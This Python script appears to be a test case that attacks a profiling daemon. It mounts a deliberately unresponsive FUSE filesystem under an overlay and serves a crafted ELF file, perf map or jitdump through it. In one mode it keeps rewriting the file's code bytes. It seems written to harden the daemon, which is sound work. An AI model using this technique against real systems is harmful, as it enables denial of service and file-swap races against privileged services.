# SPDX-License-Identifier: GPL-2.0-only
"""An overlay over a FUSE server that never answers others: the overlay is what they see, and it is
not known by its type. WHAT HOW DEVICE.

WHAT is the file that lies in it: an ELF file that is run from (elf), the perf map (map), a jitdump
(dump). HOW: what is not answered; with `release` that is what has been written to it and must be
handed over before the last descriptor is let go. DEVICE: a /dev/fuse that this user may open.
"""

import os
import struct
import time

import attack
import code_in_files as code
import elf_files as elf
import fuse

SILENT = {
    "stat": [fuse.GETATTR], "open": [fuse.OPEN], "read": [fuse.READ], "close": [fuse.FLUSH],
    "release": [fuse.WRITE, fuse.SETATTR],
}  # fmt: skip
OPENED = 2  # seconds after which the daemon has it

what, how, device = attack.ARGUMENTS


def contents():
    if what == "map":
        return b"7fff00000000 10 py::mine:/overlay\n" * 1000
    if what == "dump":
        return struct.pack("<6I2Q", 0x4A695444, 1, 40, 62, 0, os.getpid(), 1, 0) + bytes(1 << 16)
    path = elf.named(os.path.join(attack.HOME, "elf"), b"in_an_overlay")
    with open(path, "rb") as source:
        return source.read()


def lay(data):
    """The overlay's path of the file."""
    places = [os.path.join(attack.HOME, name) for name in ("served", "empty", "over")]
    for place in places:
        os.mkdir(place)
    served, empty, over = places
    try:
        fd = os.open(device, os.O_RDWR)
    except OSError as error:
        attack.cannot(f"/dev/fuse: {error}")
    user = f"user_id={os.getuid()},group_id={os.getgid()}"
    try:
        attack.mount("hostile", served, 0, "fuse", f"fd={fd},rootmode=40700,{user}")
    except OSError as error:
        attack.cannot(f"no FUSE in a user's own namespace: {error}")
    fuse.Directory(
        size=len(data), read=lambda offset, size: data[offset : offset + size],
        silent=SILENT[how], fd=fd, flags=fuse.WRITEBACK_CACHE if how == "release" else 0,
    )  # fmt: skip
    os.stat(served)  # an overlay takes over whose the directory is as that is known
    try:
        attack.mount("hostile", over, 0, "overlay", f"userxattr,lowerdir={served}:{empty}")
    except OSError as error:
        attack.cannot(f"no overlay over FUSE: {error}")
    if how == "release" and os.fork() == 0:
        attack.die_with_parent()
        os.setsid()  # it is not answered, either
        time.sleep(OPENED)
        with open(os.path.join(served, "file"), "r+b", buffering=0) as out:
            while True:
                out.seek(elf.CODE + 100)
                out.write(bytes(1))
                time.sleep(0.001)
    return os.path.join(over, "file")


attack.own_mounts()
file = lay(contents())
if what == "elf":
    where = code.map_file(file, elf.CODE + 4096)
    attack.ready()
    while True:
        code.run(where + elf.CODE, 0.2)
elif what == "map":
    with open(attack.MAP, "w", encoding="ascii"):
        pass
    attack.mount(file, attack.MAP, attack.BIND)
    attack.activate()
else:
    attack.activate_unnamed()
    with open(attack.DUMP, "w", encoding="ascii"):
        pass
    attack.mount(file, attack.DUMP, attack.BIND)
    held = os.open(attack.DUMP, os.O_RDONLY)
    attack.map_as_code(held)
attack.ready()
attack.spin()
